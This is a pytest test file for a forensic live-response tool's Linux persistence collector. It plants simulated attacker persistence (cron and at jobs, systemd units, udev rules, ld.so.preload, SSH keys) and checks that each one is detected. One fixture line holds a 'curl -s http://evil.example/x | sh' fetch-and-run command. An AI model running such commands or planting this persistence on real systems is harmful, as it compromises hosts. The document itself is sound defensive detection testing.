"""persistence over a planted root, on this machine, and the "absent" / "not checked" outcomes."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import tempfile
import uuid
from pathlib import Path

import pytest

import liveresponse
from liveresponse.agent.commands import persistence
from liveresponse.agent.commands.context import Cancelled, CommandContext
from liveresponse.agent.platform.linux.persistence import mechanisms
from tests.agent.planting import (
    AT_RUN,
    at_job_name,
    keygen_fingerprints,
    needs_ssh_keygen,
    plant,
    plant_authorized_keys,
    plant_boot_and_login,
    plant_jobs,
    plant_user_timer,
)

MECHANISMS = ["cron", "at", "systemd", "sysv", "rc.local", "udev", "modules-load", "modprobe", "shell-startup",
              "ld.so.preload", "ssh-authorized-keys", "xdg-autostart", "update-motd"]  # fmt: skip


def collect(root: Path | str) -> list[dict]:
    return list(persistence.run(CommandContext(root=str(root)), {}))


def of(rows: list[dict], mechanism: str) -> list[dict]:
    return [row for row in rows if row["mechanism"] == mechanism and row["entry"] is not None]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    plant_jobs(tmp_path)
    plant_user_timer(tmp_path)
    plant_boot_and_login(tmp_path)
    return tmp_path


def test_seven_kinds_of_cron_and_at_entries(planted: Path) -> None:
    rows = collect(planted)
    found = {(row["location"], row["line"]): row for row in of(rows, "cron") + of(rows, "at")}
    expected = {
        ("/etc/crontab", 4): ("bob", "*/5 * * * *", "/usr/local/bin/sync-all --quiet"),
        ("/etc/cron.d/backup", 3): ("root", "30 2 * * 1-5", "/opt/backup/run.sh --full"),
        ("/etc/cron.daily/cleanup", None): ("root", "25 6 * * *", "/etc/cron.daily/cleanup"),
        ("/var/spool/cron/crontabs/alice", 2): ("alice", "0 */2 * * *", "/home/alice/bin/miner -q"),
        ("/var/spool/cron/crontabs/alice", 3): ("alice", "@reboot", "/home/alice/.local/bin/agent --daemon"),
        ("/var/spool/cron/bob", 1): ("bob", "15 3 * * sun", "/usr/bin/python3 /home/bob/report.py"),
        (f"/var/spool/cron/atjobs/{at_job_name(7, AT_RUN)}", None): (
            "alice", "2030-01-02T03:04:00.000000Z", "/usr/bin/curl -s http://evil.example/x | sh",
        ),
    }  # fmt: skip
    for key, (user, schedule, command) in expected.items():
        assert (found[key]["user"], found[key]["schedule"], found[key]["command"]) == (user, schedule, command), key
    sync = found[("/etc/crontab", 4)]
    assert sync["entry"] == "*/5 * * * * bob /usr/local/bin/sync-all --quiet"
    assert sync["target"] == "/usr/local/bin/sync-all"
    assert sync["sha256"] == sha256(planted / "usr/local/bin/sync-all")
    daily = found[("/etc/cron.daily/cleanup", None)]
    assert daily["sha256"] == sha256(planted / "etc/cron.daily/cleanup")
    assert daily["modified"].endswith("Z") and all(row["root"] == str(planted) for row in rows)


@needs_ssh_keygen
def test_authorized_keys_of_every_user(planted: Path) -> None:
    authorized = plant_authorized_keys(planted, planted)
    rows = of(collect(planted), "ssh-authorized-keys")
    alice = [row for row in rows if row["user"] == "alice"]
    assert [(row["bits"], row["fingerprint"]) for row in alice] == keygen_fingerprints(authorized)
    assert [row["line"] for row in alice] == [2, 3, 4, 5]
    assert [row["key_type"] for row in alice] == [
        "ssh-ed25519", "ssh-rsa", "ecdsa-sha2-nistp256", "sk-ssh-ed25519@openssh.com",
    ]  # fmt: skip
    first = alice[0]
    assert first["command"] == "/usr/local/bin/sync-all --ssh"
    assert first["from_hosts"] == "10.0.0.0/8,192.168.1.*"
    assert first["sha256"] == sha256(planted / "usr/local/bin/sync-all")
    assert first["entry"] == f"ssh-ed25519 {first['fingerprint']} alice@laptop"
    assert alice[2]["options"] == ["no-pty", "no-agent-forwarding"]
    root = [row for row in rows if row["user"] == "root"]
    assert [(row["location"], row["comment"]) for row in root] == [("/root/.ssh/authorized_keys2", "root-old")]


def test_systemd_units_and_user_timer_enabled_by_links(planted: Path) -> None:
    rows = {row["entry"]: row for row in of(collect(planted), "systemd")}
    timer = rows["beacon.timer"]
    assert timer["location"] == "/home/alice/.config/systemd/user/timers.target.wants/beacon.timer"
    assert (timer["user"], timer["scope"], timer["wanted_by"]) == ("alice", "user", "timers.target")
    assert timer["command"] == "/home/alice/.local/bin/beacon --ping"
    assert timer["schedule"] == "Mon..Fri 09:30" and timer["service"] == "beacon.service"
    evil = rows["evil.service"]
    assert evil["location"] == "/etc/systemd/system/multi-user.target.wants/evil.service"
    assert evil["command"] == "/usr/local/bin/sync-all --daemon" and evil["user"] == "root"
    assert evil["unit_file"] == "/etc/systemd/system/evil.service"
    assert evil["sha256"] == sha256(planted / "usr/local/bin/sync-all")


def test_boot_and_login_mechanisms(planted: Path) -> None:
    rows = collect(planted)
    udev = of(rows, "udev")
    assert [(r["location"], r["line"], r["command"], r["key"]) for r in udev] == [
        ("/etc/udev/rules.d/99-usb.rules", 2, "/usr/local/bin/sync-all --usb", "RUN"),
    ]
    assert udev[0]["sha256"] == sha256(planted / "usr/local/bin/sync-all")
    preload = of(rows, "ld.so.preload")
    assert [(r["line"], r["entry"], r["user"]) for r in preload] == [(2, "/usr/lib/libevil.so", "(all users)")]
    assert preload[0]["sha256"] == sha256(planted / "usr/lib/libevil.so")
    autostart = {(r["user"], r["entry"], r["command"], r["enabled"]) for r in of(rows, "xdg-autostart")}
    assert autostart == {
        ("(all users)", "Tray", "/usr/bin/tray", True),
        ("bob", "Bob tray", "/home/bob/tray --hidden", False),
    }
    assert [(r["location"], r["entry"]) for r in of(rows, "modules-load")] == [
        ("/etc/modules-load.d/evil.conf", "evilmod")
    ]
    modprobe = of(rows, "modprobe")
    assert [(r["module"], r["command"]) for r in modprobe] == [("usb_storage", "/usr/local/bin/sync-all --modprobe")]
    assert [r["entry"] for r in of(rows, "update-motd")] == ["99-beacon"]
    assert [(r["line"], r["command"]) for r in of(rows, "rc.local")] == [
        (3, "/usr/local/bin/sync-all --boot &"),
        (4, "exit 0"),
    ]
    sysv = of(rows, "sysv")
    assert [(r["entry"], r["start_links"]) for r in sysv] == [("legacy", ["/etc/rc2.d/S01legacy"])]
    shells = {(r["location"], r["user"]) for r in of(rows, "shell-startup")}
    assert shells == {("/home/alice/.bashrc", "alice")}


def test_absent_mechanisms_get_one_summary_row_each(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    rows = collect(tmp_path)
    assert [row["mechanism"] for row in rows] == MECHANISMS == [m.name for m in mechanisms()]
    for row in rows:
        assert row["checked"] is True and row["reason"].startswith("absent: none of ")
        assert row["entry"] is None and row["command"] is None
    assert rows[0]["reason"].startswith("absent: none of /etc/crontab, /etc/cron.d, /etc/cron.hourly")


def test_present_but_empty_is_silent(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    (tmp_path / "etc/cron.d").mkdir()
    rows = collect(tmp_path)
    assert "cron" not in {row["mechanism"] for row in rows}


def test_a_directory_where_a_file_belongs_is_not_checked(tmp_path: Path) -> None:
    plant(tmp_path, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
    (tmp_path / "etc/ld.so.preload").mkdir()
    rows = [row for row in collect(tmp_path) if row["mechanism"] == "ld.so.preload"]
    assert [(r["location"], r["checked"], r["reason"]) for r in rows] == [
        ("/etc/ld.so.preload", False, "not checked: is a directory reading /etc/ld.so.preload"),
    ]


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run the collector as user nobody")
def test_unreadable_spool_is_not_checked_permission() -> None:
    # Root reads everything, so the collector runs as nobody on a root it may not fully read.
    root = Path(tempfile.mkdtemp(prefix="lr-persistence-"))
    try:
        root.chmod(0o755)
        plant_jobs(root)
        for directory in ("etc", "etc/cron.d", "etc/cron.daily", "var", "var/spool", "var/spool/cron"):
            (root / directory).chmod(0o755)
        (root / "etc/crontab").chmod(0o644)
        (root / "var/spool/cron/crontabs").chmod(0o700)  # root-only, as on Debian
        script = (
            "import json, sys\nfrom liveresponse.agent.commands import persistence\n"
            "from liveresponse.agent.commands.context import CommandContext\n"
            "print(json.dumps(list(persistence.run(CommandContext(root=sys.argv[1]), {}))))\n"
        )
        # The virtualenv's interpreter lives under /root here, out of nobody's reach: use the system's.
        python = shutil.which("python3", path="/usr/local/bin:/usr/bin:/bin")
        if python is None:
            pytest.skip("no system python3 that user nobody can run")
        source = str(Path(liveresponse.__file__).parents[1])
        done = subprocess.run([python, "-c", script, str(root)], capture_output=True, text=True, check=True,
                              user="nobody", group="nogroup", extra_groups=[], cwd="/",
                              env={"PYTHONPATH": source, "PATH": "/usr/bin:/bin"})  # fmt: skip
        rows = [row for row in json.loads(done.stdout) if row["mechanism"] == "cron"]
        problems = [(row["location"], row["reason"]) for row in rows if row["checked"] is False]
        assert (
            "/var/spool/cron/crontabs",
            "not checked: permission denied reading /var/spool/cron/crontabs",
        ) in problems
        assert any(row["location"] == "/etc/crontab" and row["line"] == 4 for row in rows)  # the rest is still read
    finally:
        shutil.rmtree(root)


def test_cancel_stops_between_rows(planted: Path) -> None:
    ctx = CommandContext(root=str(planted))
    rows = persistence.run(ctx, {})
    next(rows)
    ctx.cancel_event.set()
    with pytest.raises(Cancelled):
        next(rows)


def test_on_this_machine_with_planted_entries() -> None:
    marker = uuid.uuid4().hex[:12]
    cron_file = Path(f"/etc/cron.d/lr-test-{marker}")
    rule_file = Path(f"/etc/udev/rules.d/99-lr-test-{marker}.rules")
    try:
        cron_file.write_text(f"*/7 * * * * root /bin/true {marker}\n")
        rule_file.parent.mkdir(parents=True, exist_ok=True)
        rule_file.write_text(f'ACTION=="add", RUN+="/bin/echo {marker}"\n')
        rows = collect("/")
        cron = [row for row in of(rows, "cron") if row["location"] == str(cron_file)]
        assert [(r["line"], r["user"], r["schedule"], r["command"]) for r in cron] == [
            (1, "root", "*/7 * * * *", f"/bin/true {marker}"),
        ]
        assert cron[0]["sha256"] == sha256(Path("/bin/true"))
        udev = [row for row in of(rows, "udev") if row["location"] == str(rule_file)]
        assert [(r["line"], r["command"]) for r in udev] == [(1, f"/bin/echo {marker}")]
        assert "root" not in rows[0]
    finally:
        cron_file.unlink(missing_ok=True)
        rule_file.unlink(missing_ok=True)
    assert not any(marker in json.dumps(row) for row in collect("/"))
